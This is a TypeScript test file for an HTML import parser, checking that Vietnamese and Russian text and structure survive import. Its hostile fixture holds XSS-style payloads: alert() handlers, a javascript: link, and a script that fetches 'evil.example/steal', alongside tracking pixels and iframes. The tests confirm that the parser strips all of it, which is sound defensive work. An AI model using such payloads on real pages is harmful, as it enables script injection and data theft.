import { describe, expect, it } from 'vitest'
import { parseFile } from './parseFile'

const parse = (source: string, name = 'page.html') =>
  parseFile({ name, bytes: new TextEncoder().encode(source), options: {} })

const hostile = `<!doctype html><html><head><title>Dự thảo</title>
<link rel="stylesheet" href="http://evil.example/a.css"><style>body{background:url(http://evil.example/x)}</style>
<script>fetch('http://evil.example/steal')</script></head>
<body onload="alert(1)">
<h1>Tuyên bố <b>chung</b></h1>
<p onclick="alert(2)">9. Hai bên <i>nhất trí</i> <a href="javascript:alert(3)">tăng cường</a> hợp tác.</p>
<iframe src="http://evil.example/frame"></iframe>
<img src="http://evil.example/pixel.png" onerror="alert(4)">
<ol start="12"><li>Mười hai</li><li>Mười ba</li></ol>
<ul><li>Gạch</li></ul>
<blockquote><p>Trích dẫn.</p></blockquote>
<table><tr><th>Điều</th><th>Nội dung</th></tr><tr><td>3</td><td>Phạm vi</td></tr></table>
<pre>dòng 1
dòng 2</pre>
</body></html>`

describe('HTML import', () => {
  it('keeps text and structure and nothing that could run or reach the network', async () => {
    const parsed = await parse(hostile)
    expect(parsed.titleHint).toBe('Dự thảo')
    expect(parsed.blocks.map((block) => [block.kind, block.text])).toEqual([
      ['heading', 'Tuyên bố chung'],
      ['paragraph', '9. Hai bên nhất trí tăng cường hợp tác.'],
      ['listItem', '12. Mười hai'],
      ['listItem', '13. Mười ba'],
      ['listItem', '• Gạch'],
      ['quote', 'Trích dẫn.'],
      ['tableRow', 'Điều | Nội dung'],
      ['tableRow', '3 | Phạm vi'],
      ['preformatted', 'dòng 1'],
      ['preformatted', 'dòng 2'],
    ])
    const stored = JSON.stringify(parsed.blocks)
    expect(stored).not.toMatch(/alert|evil\.example|javascript|fetch|background/)
    expect(parsed.warnings).toEqual([
      { code: 'import.imagesDropped', params: { count: 1 } },
      { code: 'import.linksRemoved' },
    ])
  })

  it('marks bold and italic without changing the text', async () => {
    const { blocks } = await parse('<p>Hai   bên <strong>nhất</strong>\n<em>trí</em></p>')
    expect(blocks).toEqual([
      {
        kind: 'paragraph',
        text: 'Hai bên nhất trí',
        marks: [
          { start: 8, end: 12, bold: true },
          { start: 13, end: 16, italic: true },
        ],
      },
    ])
  })

  it('reads a page in Windows-1251 as its meta tag says', async () => {
    const iconv = await import('iconv-lite')
    const bytes = iconv.default.encode('<meta charset="windows-1251"><p>Стороны договорились.</p>', 'windows1251')
    const parsed = await parseFile({ name: 'ru.htm', bytes, options: {} })
    expect(parsed.blocks[0]?.text).toBe('Стороны договорились.')
    expect(parsed.encoding).toBe('windows-1251')
  })
})
